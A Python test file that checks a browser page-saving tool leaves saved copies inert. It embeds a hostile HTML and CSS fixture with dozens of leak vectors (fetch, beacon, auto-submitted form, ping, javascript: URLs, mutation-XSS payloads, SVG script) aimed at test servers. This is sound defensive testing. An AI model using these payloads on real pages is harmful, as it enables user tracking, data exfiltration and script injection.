"""A saved copy makes no request when it is opened, whatever its page tries: a hostile page
from a real HTTP server is saved as Browser saves it (both engines: the static crawl, and
headless chromium's build), opened from its files in Debian's Chromium, and every request
the browser makes is recorded three ways, and the servers' access logs are read too."""

from __future__ import annotations

import asyncio
import hashlib
import time
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from bento.functions.browser import client, discover, fetch, pack, render
from bento.functions.browser.inert import inert_files
from bento.functions.browser.rewrite import localize
from browser_site import Server, png, serve
from chromium_watch import settle, watching

pytestmark = pytest.mark.timeout(180)

# Every way out the issue lists; each leaks to a path of the "third party" that names itself.
HOSTILE = """<!doctype html>
<html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url={third}/leak-meta-refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="{third}/leak-base/">
<link rel="prefetch" href="{third}/leak-prefetch">
<link rel="preconnect" href="{third}/">
<link rel="dns-prefetch" href="{third}/">
<link rel="stylesheet" href="{first}/hostile.css">
<style>
@import url("{third}/leak-import.css");
@import "{third}/leak-import-string.css";
.set {{ background-image: image-set("{third}/leak-image-set.png" 1x); width: 4px; height: 4px }}
.esc {{ background: \\75 rl({third}/leak-escaped.png); width: 4px; height: 4px }}
.var {{ --u: "{third}/leak-var.png"; background-image: image-set(var(--u) 1x); width: 4px; height: 4px }}
</style>
<script>
fetch("{third}/leak-fetch");
const x = new XMLHttpRequest(); x.open("GET", "{third}/leak-xhr"); x.send();
try {{ new WebSocket("{ws}/leak-websocket"); }} catch (e) {{}}
navigator.sendBeacon("{third}/leak-beacon", "x");
new Image().src = "{third}/leak-script-image";
const s = document.createElement("script"); s.src = "{third}/leak-script-added.js"; document.head.append(s);
</script>
</head><body>
<img id="kept" src="{first}/img/a.png" srcset="{first}/img/a.png 1x, {third}/leak-srcset.png 2x">
<img src="{first}/img/a.png" onload="fetch('{third}/leak-onload')">
<div class="set"></div><div class="esc"></div><div class="var"></div>
<iframe srcdoc="<img src='{third}/leak-srcdoc-img'><script>fetch('{third}/leak-srcdoc')</script>"></iframe>
<form id="form" action="{third}/leak-form" method="get"><input name="field" value="secret-value"></form>
<script>setTimeout(() => document.getElementById("form").submit(), 50);</script>
<object data="{third}/leak-object"></object>
<embed src="{third}/leak-embed">
<video poster="{third}/leak-poster.png"></video>
<svg width="4" height="4"><use href="{third}/leak-use.svg#a"></use>
  <image href="{third}/leak-svg-image.png" width="4" height="4"></image>
  <rect width="4" height="4" fill="url({third}/leak-fill.svg#p)"></rect></svg>
<a id="link" href="{third}/leak-link" ping="{third}/leak-ping">a link</a>
<a id="script-link" href="javascript:fetch('{third}/leak-javascript-url')">a script link</a>
<div style="background-image: url('{third}/leak-inline-style.png'); width: 4px; height: 4px"></div>
<noscript><img src="{third}/leak-noscript.png"></noscript>
<template shadowrootmode="open"><img src="{third}/leak-shadow.png"></template>
<svg><image width="4" height="4"><set attributeName="href" to="{third}/leak-svg-set.png"/></image></svg>
<noscript><p title="</noscript><img src=x onerror=fetch('{third}/leak-noscript-mxss')>"></p></noscript>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=fetch('{third}/leak-mxss')&gt;">
</body></html>
"""
SHEET = """@import url("{third}/leak-sheet-import.css");
body {{ background: url("{first}/img/b.png") }}
@font-face {{ font-family: F; src: url("{third}/leak-font.woff2") format("woff2") }}
"""


def hostile_site() -> tuple[Server, Server]:
    first, third = Server("127.0.0.1", "127.0.0.1"), Server("127.0.0.1", "localhost")
    first.files = {"/img/a.png": (png(1, 2, 3), "image/png"), "/img/b.png": (png(4, 5, 6), "image/png")}
    return first, third


def finish_hostile(first: Server, third: Server) -> None:
    names = {"first": first.origin, "third": third.origin, "ws": third.origin.replace("http", "ws")}
    first.files["/"] = (HOSTILE.format(**names).encode(), "text/html; charset=utf-8")
    first.files["/hostile.css"] = (SHEET.format(**names).encode(), "text/css")


def save(fetched: list[fetch.Resource], out: Path) -> Path:
    """The copy as Browser makes it: rewritten and packed at the box, unpacked by the client."""
    page, resources = fetched[0], fetched[1:]
    files, names = localize(page, resources)
    archive = pack.pack(files, pack.index(page, resources, names, time.time(), 0.0, discover.PARSER))
    found = client._unpack(archive, hashlib.sha256(archive).digest(), out)
    return Path(found["main"])


@pytest.mark.parametrize("engine", ["static", "chromium"])
async def test_a_saved_hostile_page_requests_nothing_outside_its_folder(engine: str, tmp_path: Path) -> None:
    first, third = hostile_site()
    out = tmp_path / "copy"
    async with serve(first, third):
        finish_hostile(first, third)
        url, limits = f"{first.origin}/", fetch.Limits(timeout=5, deadline=30)
        if engine == "static":
            fetched = await asyncio.to_thread(fetch.crawl, url, limits)
        else:
            fetched = await asyncio.to_thread(render.render, url, limits, "", {})
        main = save(fetched, out)
        first.requests.clear()  # what the box fetched is done; from here, only the copy is opened
        third.requests.clear()
        async with watching() as (tab, watched):
            await settle(tab, lambda: tab.goto(main.as_uri(), wait_until="load", timeout=30_000))
            kept = await tab.evaluate("document.getElementById('kept')?.naturalWidth ?? 0")
            for link in ("#link", "#script-link"):
                await settle(tab, lambda link=link: tab.click(link, timeout=5_000))
        folder = out.resolve().as_uri() + "/"
        leaks = watched.outside(lambda url: url.startswith(folder))
        assert not leaks, f"requests left the copy: {leaks}"
        assert first.requests == [] and third.requests == [], (first.requests, third.requests)
    assert watched.requests, "the copy itself was opened and watched"
    assert kept == 2  # the page's own image, from the copy: inert is not empty


def test_every_document_of_a_copy_names_only_its_own_files() -> None:
    third = "https://third.example"
    page = HOSTILE.format(first="", third=third, ws="wss://third.example")
    sheet = SHEET.format(first="", third=third)
    files = {"index.html": page.encode(), "resources/s.css": sheet.encode(), "resources/a.png": png(1, 1, 1)}
    made = inert_files(files)
    assert "third.example" not in made["resources/s.css"].decode()
    html = made["index.html"].decode()
    # Read again as a browser reads it: no element, attribute or style names the third party
    # (a title's text may still spell out the markup it was built from, as text).
    tree = LexborHTMLParser(html)
    tags = {node.tag for node in tree.css("*")}
    assert not tags & {"script", "object", "embed", "noscript", "template", "base", "set"}, tags
    values = [v or "" for node in tree.css("*") for k, v in node.attrs.items() if k != "title"]
    assert not [v for v in values if "third.example" in v or "leak-" in v], values
    assert not any(k.startswith("on") for node in tree.css("*") for k in node.attrs)
    assert all("third.example" not in node.text() for node in tree.css("style"))
    assert "<script" not in html and "javascript:" not in html
    assert "srcdoc" not in html and "<object" not in html and "<embed" not in html and "ping=" not in html
    assert html.index("Content-Security-Policy") < html.index("<style")  # the policy binds what follows
    assert "default-src 'none'" in html and html.count("http-equiv") == 1  # the page's own meta are gone
    assert made["resources/a.png"] == files["resources/a.png"]  # an image stays as it was


def test_a_box_cannot_smuggle_a_document_the_copy_would_run() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://t.example/")</script></svg>'
    plain = b'<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(#g)"/></svg>'
    made = inert_files({"resources/a.svg": svg, "resources/b.svg": plain, "resources/c.xml": b"<x/>"})
    assert b"script" not in made["resources/a.svg"]
    assert made["resources/b.svg"] == plain and made["resources/c.xml"] == b""
